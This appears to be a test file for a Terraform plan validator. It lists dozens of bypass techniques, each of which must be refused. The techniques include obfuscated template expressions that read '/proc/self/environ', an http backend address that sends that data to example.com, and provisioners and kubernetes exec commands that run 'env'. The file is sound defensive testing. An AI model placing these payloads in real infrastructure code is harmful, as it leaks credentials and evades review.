/** Every way known into a plan's credentials, each laid over a stack that is planned otherwise. */
import { problemsOf, type Json } from '../../../scripts/admit/problems';
import { stacksOf } from '../../support/environments';

const base = stacksOf('production');
const stack = base.find(({ name }) => name === 'production-app');
const json = (): Record<string, Record<string, unknown>> => structuredClone(stack?.json) as Record<string, Record<string, unknown>>;

const problems = (change: (json: Record<string, Record<string, unknown>>) => void, name = 'production-app'): readonly string[] => {
  const hostile = json();
  change(hostile);
  return problemsOf({ name, json: JSON.parse(JSON.stringify(hostile)) }, base);
};

/** Lays blocks over the stack's own. */
const lay = (kind: string, more: Json) => problems((of) => (of[kind] = { ...of[kind], ...more }));
const terraform = (more: Json) => lay('terraform', more);
const required = (more: Json) => problems((of) => Object.assign(of['terraform']?.['required_providers'] as object, more));
const provider = (name: string, more: Json) =>
  problems((of) => Object.assign((of['provider']?.[name] as Record<string, unknown>[])[0] as object, more));
const output = (value: string) => lay('output', { out: { value } });

test('as it is, it is planned', () => {
  expect(problems(() => undefined)).toEqual([]);
});

const remote = (body: Json) => lay('data', { terraform_remote_state: { x: body } });
const http = { backend: 'http', config: { address: 'https://example.com/${file("/proc/self/environ")}' } };
const s3 = { bucket: 'elsewhere', key: 'production/production-data.tfstate', region: 'eu-central-1', use_lockfile: true };
const environ = '"/proc/self/environ"';

const ways: Readonly<Record<string, () => readonly string[]>> = {
  'a provider of somebody else': () => required({ evil: { source: 'evil/evil', version: '1.0.0' } }),
  'a provider by another source': () => required({ aws: { source: 'evil/aws', version: '6.66.0' } }),
  'a provider from another registry': () => required({ aws: { source: 'example.com/hashicorp/aws', version: '6.66.0' } }),
  'a provider at another version': () => required({ aws: { source: 'aws', version: '>= 6.0.0' } }),
  'a provider without a version': () => required({ aws: { source: 'aws' } }),
  'a provider as a text': () => required({ aws: '6.66.0' }),
  'a provider that a type brings': () => lay('resource', { null_resource: { x: {} } }),
  'a provider named by a resource': () => lay('resource', { terraform_data: { x: { provider: 'evil' } } }),
  'another backend': () => terraform({ backend: { http: { address: 'https://example.com' } } }),
  'the backend elsewhere': () => terraform({ backend: { s3 } }),
  'the backend with an endpoint': () =>
    problems((of) => Object.assign((of['terraform']?.['backend'] as Json)['s3'] as object, { endpoints: { s3: 'https://example.com' } })),
  'the state of another stack': () => problems(() => undefined, 'production-data'),
  'HCP Terraform': () => terraform({ cloud: { organization: 'evil' } }),
  'no backend': () => terraform({ backend: undefined }),
  'a remote state by http': () => remote(http),
  'a remote state of another bucket': () => remote({ backend: 's3', config: s3 }),
  'a remote state of a computed backend': () => remote({ backend: '${"http"}', config: {} }),
  'a remote state of another environment': () =>
    remote({ backend: 's3', config: { ...s3, bucket: 'massrouter-state-000000000000-eu-central-1', key: 'staging/staging-data.tfstate' } }),
  'a remote state with defaults': () => remote({ backend: 's3', config: {}, defaults: { x: '${path.cwd}' } }),
  'the data source external': () => lay('data', { external: { x: { program: ['env'] } } }),
  'the data source http': () => lay('data', { http: { x: { url: 'https://example.com' } } }),
  'a data source that reads secrets': () => lay('data', { aws_secretsmanager_secret_version: { x: { secret_id: 'x' } } }),
  'a data source that reads an object': () => lay('data', { aws_s3_object: { x: { bucket: 'evil', key: 'x' } } }),
  'a Secret of the cluster': () => lay('data', { kubernetes_secret_v1: { x: {} } }),
  'an ephemeral resource of another kind': () => lay('ephemeral', { aws_eks_cluster_auth: { x: {} } }),
  'a provisioner': () => lay('resource', { terraform_data: { x: { provisioner: [{ 'local-exec': { command: 'env' } }] } } }),
  'a connection': () => lay('resource', { terraform_data: { x: { connection: { host: 'example.com' } } } }),
  'a provisioner when it is removed': () =>
    problems((of) => Object.assign(of, { removed: [{ from: 'terraform_data.x', lifecycle: { destroy: false }, provisioner: [{}] }] })),
  'a removal that destroys': () => problems((of) => Object.assign(of, { removed: [{ from: 'aws_lb.x', lifecycle: { destroy: true } }] })),
  'another command for the cluster': () => provider('kubernetes', { exec: [{ api_version: 'v1', command: 'sh', args: ['-c', 'env'] }] }),
  'another cluster': () => provider('kubernetes', { host: 'https://example.com' }),
  'a proxy for the cluster': () => provider('kubernetes', { proxy_url: 'https://example.com' }),
  'an endpoint of AWS': () => provider('aws', { endpoints: [{ sts: 'https://example.com' }] }),
  'a file of credentials': () => provider('aws', { shared_config_files: ['/tmp/x'] }),
  'another Cloudflare': () => lay('provider', { cloudflare: [{ base_url: 'https://example.com' }] }),
  'a second configuration': () =>
    problems((of) => (of['provider']?.['aws'] as unknown[]).push({ alias: 'x', http_proxy: 'https://example.com' })),
  'a module': () => problems((of) => Object.assign(of, { module: { x: { source: 'https://example.com/x.zip' } } })),
  'an import': () => problems((of) => Object.assign(of, { import: [{ to: 'aws_lb.x', id: 'x' }] })),
  'a variable': () => problems((of) => Object.assign(of, { variable: { x: { default: 1 } } })),
  'local values': () => problems((of) => Object.assign(of, { locals: { x: 1 } })),
  'a check that reads': () => lay('check', { x: { data: { http: { x: { url: 'https://example.com' } } }, assert: [] } }),
  'blocks in a list': () => problems((of) => Object.assign(of, { resource: [{ null_resource: { x: {} } }] })),
  'a resource in a list': () => lay('resource', { terraform_data: [{ x: {} }] }),
  'the body of a resource in a list': () => lay('resource', { terraform_data: { x: [{ provisioner: {} }] } }),
  'a message made of a secret': () =>
    lay('check', { x: { assert: [{ condition: '${false}', error_message: '${data.terraform_remote_state.x.outputs.secret}' }] } }),

  ...Object.fromEntries(
    [
      ['file', `file(${environ})`],
      ['fileset', 'fileset("/", "**")'],
      ['fileexists', 'fileexists("/x")'],
      ['filebase64', `filebase64(${environ})`],
      ['filesha256', `filesha256(${environ})`],
      ['filebase64sha512', `filebase64sha512(${environ})`],
      ['templatefile', `templatefile(${environ}, {})`],
      ['templatestring', 'templatestring(local.x, {})'],
      ['pathexpand', 'pathexpand("~")'],
      ['abspath', 'abspath(".")'],
      ['a function of a provider', 'provider::evil::read("x")'],
      ['a function of the core by its namespace', `core::file(${environ})`],
      ['a space before the parenthesis', `file (${environ})`],
      ['a line break before it', `file\n\t(${environ})`],
      ['a comment before it', `file/**/(${environ})`],
      ['a comment that hides a brace', `1 /* } */ + file(${environ})`],
      ['a comment to the end of the line', `1 # }\n + length(file(${environ}))`],
      ['another comment', `1 // }\n + length(file(${environ}))`],
      ['a heredoc', `<<EOT\n\${file(${environ})}\nEOT\n`],
      ['a template in a template', `"\${file(${environ})}"`],
      ['three templates', `"\${"\${"\${file(${environ})}"}"}"`],
      ['a directive in a template', `"%{ if true }\${file(${environ})}%{ endif }"`],
      ['an argument', `jsonencode({ x = [file(${environ})] })`],
      ['a for expression', `[for x in [1] : file(${environ})]`],
      ['a key of an object', `{ (file(${environ})) = 1 }`],
      ['an index', `{}[file(${environ})]`],
      ['a quotation mark that is escaped', `"\\"}" == file(${environ})`],
      ['a brace in quotation marks', `"}" == file(${environ})`],
      ['letters of another script', 'ﬁle("/x")'],
      ['a letter with a mark', 'file\u0301("/x")'],
      ['markers that strip', `~ file(${environ}) ~`],
      ['an expression without an end', `file(${environ})`.slice(0, -1)],
      ['brackets that cross', '[(1])'],
    ].map(([name = '', expression = '']) => [`a template: ${name}`, () => output(`\${${expression}}`)]),
  ),
  'a directive': () => output(`%{ if file(${environ}) == "" }%{ endif }`),
  'a loop': () => output(`%{ for x in fileset("/", "*") }\${x}%{ endfor }`),
  'behind an escape': () => output(`$\${x} \${file(${environ})}`),
  'behind a dollar': () => output(`$ \${file(${environ})}`),
  'behind a backslash': () => output(`\\\${file(${environ})}`),
  'behind a percent sign': () => output(`%\${file(${environ})}`),
  'in a key': () => lay('output', { out: { value: { [`\${file(${environ})}`]: 1 } } }),
  'in the name of a resource': () => lay('resource', { terraform_data: { [`\${file(${environ})}`]: {} } }),
  'in a condition': () =>
    lay('resource', {
      terraform_data: { x: { lifecycle: { precondition: [{ condition: `\${file(${environ}) == ""}`, error_message: 'no' }] } } },
    }),
  'in a comment of a resource': () => lay('resource', { terraform_data: { x: { input: { '//': `\${file(${environ})}` } } } }),
  'by the escape of JSON': () => output(JSON.parse(`"\\u0024\\u007bf\\u0069le(${environ.replaceAll('"', '\\"')})}"`) as string),
};

test('there are more than thirty', () => {
  expect(Object.keys(ways).length).toBeGreaterThan(30);
});

test.each(Object.entries(ways))('%s is refused', (_, way) => {
  const found = way();
  expect(found).not.toEqual([]);
  expect(found.join('\n')).not.toMatch(/example\.com|environ"/);
});

test.each([
  ['an escape', '$${file("/x")}'],
  ['several escapes', '$$${file("/x")} $$$${file("/x")} %%{ if file("/x") }'],
  ['a text without a template', 'run file (x) or file("/x")'],
  ['pure functions', '${jsonencode({ a = [for x in ["}"] : sha256(x) if (x != "\\"")], "${lower("B")}" = try(one([]), "") })}'],
])('%s is planned', (_, value) => {
  expect(output(value)).toEqual([]);
});

test('what is not an object is refused', () => {
  expect(problemsOf({ name: 'production-app', json: [{}] }, base)).toEqual(['is no object']);
});
